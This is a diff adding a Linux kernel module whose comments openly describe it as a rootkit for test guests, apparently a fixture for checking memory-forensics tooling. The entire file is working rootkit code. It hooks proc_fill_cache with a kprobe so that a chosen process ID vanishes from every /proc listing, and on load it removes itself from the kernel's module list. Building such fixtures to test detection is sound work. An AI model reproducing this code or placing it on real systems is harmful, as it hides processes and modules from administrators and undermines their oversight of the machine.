@@ -1,0 +1,54 @@
+// SPDX-License-Identifier: GPL-2.0
+// A rootkit for the guests of the tests, in the manner of those in use: a process is left out of every listing of /proc,
+// and the module out of the list of modules. The factory builds it in LiME's place, hence the name of the file.
+#include <linux/kprobes.h>
+#include <linux/module.h>
+#include <linux/string.h>
+
+static char *pid = "";
+module_param(pid, charp, 0);
+
+// What is called in the place of a function that is to do nothing.
+asm(".pushsection .text\n"
+    "just_return:\n"
+    "	ret\n"
+    "	int3\n"
+    ".popsection");
+extern void just_return(void);
+
+// bool proc_fill_cache(struct file *, struct dir_context *, const char *name, unsigned int len, ...): a line of a listing.
+static int leave_out(struct kprobe *probe, struct pt_regs *regs)
+{
+	const char *name = (const char *)regs->dx;
+	size_t length = (u32)regs->cx;
+
+	if (length != strlen(pid) || memcmp(name, pid, length))
+		return 0;
+	regs->ax = true;
+	regs->ip = (unsigned long)just_return;
+	return 1;
+}
+
+// A probe that changes where a call goes needs one (arm_kprobe_ftrace, kernel/kprobes.c).
+static void after(struct kprobe *probe, struct pt_regs *regs, unsigned long flags)
+{
+}
+
+static struct kprobe probe = {
+	.symbol_name = "proc_fill_cache",
+	.pre_handler = leave_out,
+	.post_handler = after,
+};
+
+static int __init hide(void)
+{
+	int error = register_kprobe(&probe);
+
+	if (!error)
+		list_del_init(&THIS_MODULE->list);
+	return error;
+}
+
+module_init(hide);
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("hides a process and itself, for tests");
